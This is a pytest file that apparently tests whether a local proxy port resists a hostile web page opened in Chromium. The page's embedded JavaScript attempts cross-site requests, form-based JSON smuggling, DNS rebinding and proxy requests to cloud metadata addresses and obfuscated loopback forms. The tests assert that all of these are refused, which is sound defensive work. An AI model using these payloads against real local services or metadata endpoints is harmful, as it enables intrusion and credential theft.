"""A page in a real Chromium that throws all it has at the port: directly, under a name that it made resolve to loopback, and through the proxy."""

import json
import re
import shutil
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from device import chromium_flags
from world import wait_until

pytestmark = pytest.mark.skipif(not shutil.which("chromium"), reason="chromium is not installed")

PAGE = """<!doctype html><title>evil</title><body><script>
const body = JSON.stringify({model: 'gpt-5', messages: [{role: 'user', content: 'from a page'}]});
const results = {};
const bases = BASES;
const note = (name, value) => { results[name] = value; };
const within = (promise, name) => Promise.race([promise, new Promise(r => setTimeout(() => r('timeout'), 4000))])
  .then(v => note(name, String(v)), e => note(name, 'refused: ' + e));
const loads = (make, name) => within(new Promise((ok, no) => { const e = make(); e.onload = () => ok('loaded'); e.onerror = () => no('error'); }), name);
const work = [];
bases.forEach((base, i) => {
  const url = base + '/openai/v1/chat/completions';
  work.push(loads(() => { const e = new Image(); e.src = base + '/openai/v1/models?' + i; return e; }, i + ' image'));
  work.push(loads(() => { const e = document.createElement('script'); e.src = base + '/openai/v1/models'; document.body.append(e); return e; }, i + ' script'));
  work.push(loads(() => { const e = document.createElement('link'); e.rel = 'stylesheet'; e.href = base + '/openai/v1/models'; document.body.append(e); return e; }, i + ' style'));
  for (const mode of ['cors', 'no-cors']) {
    work.push(within(fetch(url, {method: 'POST', mode, body, headers: {'Content-Type': 'text/plain'}}).then(r => r.type + ' ' + r.status), i + ' fetch ' + mode));
    work.push(within(fetch(base + '/openai/v1/models', {mode}).then(r => r.type + ' ' + r.status), i + ' get ' + mode));
  }
  work.push(within(fetch(url, {method: 'POST', body, headers: {'Content-Type': 'application/json', 'Authorization': 'Bearer x'}}).then(r => r.text()), i + ' preflighted'));
  navigator.sendBeacon(url, body);
  for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
    const frame = document.createElement('iframe'); frame.name = 'f' + i + type; document.body.append(frame);
    const form = document.createElement('form'); form.method = 'POST'; form.action = url; form.enctype = type; form.target = frame.name;
    const field = document.createElement('input'); field.name = body.slice(0, -1) + ',"x":"'; field.value = '"}'; form.append(field);
    document.body.append(form); form.submit();
  }
  if (base.startsWith('http://')) {
    work.push(within(new Promise((ok, no) => { const s = new WebSocket('ws' + base.slice(4) + '/openai/v1/realtime?model=x');
      s.onopen = () => { s.send(body); ok('open'); }; s.onerror = () => no('error'); }), i + ' websocket'));
    work.push(within(new Promise((ok, no) => { const s = new EventSource(base + '/openai/v1/models'); s.onopen = () => ok('open'); s.onerror = () => { s.close(); no('error'); }; }), i + ' events'));
  }
});
for (const url of OTHERS) work.push(within(fetch(url, {mode: 'no-cors'}).then(r => r.type + ' ' + r.status), url));
Promise.all(work).then(() => new Promise(r => setTimeout(r, 1500))).then(() => fetch('/report', {method: 'POST', body: JSON.stringify(results)}));
</script>"""


class Evil(BaseHTTPRequestHandler):
    """The page's own server."""

    def do_GET(self):
        self.server.gets.append(self.path)
        body = self.server.page.encode() if self.path == "/" else b"secret of an internal service"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        if self.path == "/report":
            self.server.report = json.loads(body)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_):
        pass


def visit(world, bases, others, flags, rules="") -> dict:
    """Opens the page, waits for its report, and returns it."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    server.gets, server.report = [], None
    port = server.server_address[1]
    server.page = PAGE.replace("BASES", json.dumps(bases)).replace("OTHERS", json.dumps([u.replace("EVIL", str(port)) for u in others]))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    keep = [f for f in chromium_flags(world.folder / "chromium") if "virtual-time" not in f]
    rules = f"MAP evil.example 127.0.0.1,{rules}" if rules else "MAP evil.example 127.0.0.1"
    browser = subprocess.Popen(["chromium", *keep, *flags, f"--host-resolver-rules={rules}", f"http://evil.example:{port}/"],
                               env=world.env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        report = wait_until(lambda: server.report, 60, "the page's report")
        assert [g for g in server.gets if g not in ("/", "/favicon.ico")] == [], "this machine's other ports were reached"
        return report
    finally:
        browser.terminate()
        browser.wait(20)
        server.shutdown()
        server.server_close()


def refusals(world) -> int:
    return len(re.findall(r"action=(port-defence|malformed|proxy-refused|upstream-forbidden-address)|CONNECT (refused|failed)",
                          world.agent.log))


def assert_nothing_got_through(report: dict):
    for name, result in report.items():
        # An opaque answer is what a page gets of a refusal, too: it can't read it; the stand-in says whether it was asked.
        assert result.startswith(("refused", "opaque", "cors 4", "error")) or result == "timeout", (name, result)


def test_a_page_reaches_no_provider_under_the_ports_own_names(start_world):
    world = start_world(collector=False)
    port = world.agent.url.rsplit(":", 1)[1]
    report = visit(world, [f"http://{name}:{port}" for name in ("127.0.0.1", "localhost", "[::1]")], [], [])
    assert_nothing_got_through(report)
    assert world.standin.requests == [] and world.standin.connections == 0
    assert len(report) >= 3 * 10
    assert refusals(world) >= 15, "the page's requests have to reach the port, or this shows nothing"


def test_a_page_reaches_no_provider_under_a_name_of_its_own(start_world):
    """DNS rebinding: the page's own name leads to the port, so that the browser takes the port for the page's server."""
    world = start_world(collector=False)
    port = world.agent.url.rsplit(":", 1)[1]
    report = visit(world, [f"http://{name}:{port}" for name in ("rebind.example", "127.0.0.1.rebind.example")], [], [],
                   rules="MAP *.rebind.example 127.0.0.1,MAP rebind.example 127.0.0.1")
    assert_nothing_got_through(report)
    assert world.standin.requests == [] and world.standin.connections == 0
    assert refusals(world) >= 10


def test_a_page_reaches_nothing_inside_through_the_proxy(start_world):
    """With the browser's proxy set to ours: metadata services, this machine and its other ports."""
    world = start_world(collector=False)
    port = world.agent.url.rsplit(":", 1)[1]
    inside = ["http://169.254.169.254/latest/meta-data/", "https://169.254.169.254/", "http://[fd00:ec2::254]/latest/",
              "https://168.63.129.16/", "http://100.100.100.200/", f"http://0.0.0.0:{port}/openai/v1/models",
              "https://127.0.0.1/", "http://[::ffff:169.254.169.254]/", "https://2130706433/", "http://0x7f000001/",
              f"http://127.0.0.1:{port}/openai/v1/models", "https://127.0.0.1:22/", "http://127.0.0.1:EVIL/internal",
              "http://localhost:EVIL/internal"]
    report = visit(world, [], inside, [f"--proxy-server={world.agent.url}", "--proxy-bypass-list=<-loopback>;evil.example"])
    assert len(report) == len(inside)
    for name, result in report.items():
        assert result.startswith("refused") or result == "opaque 0", (name, result)
    assert world.standin.requests == [] and world.standin.connections == 0
    assert refusals(world) >= 8
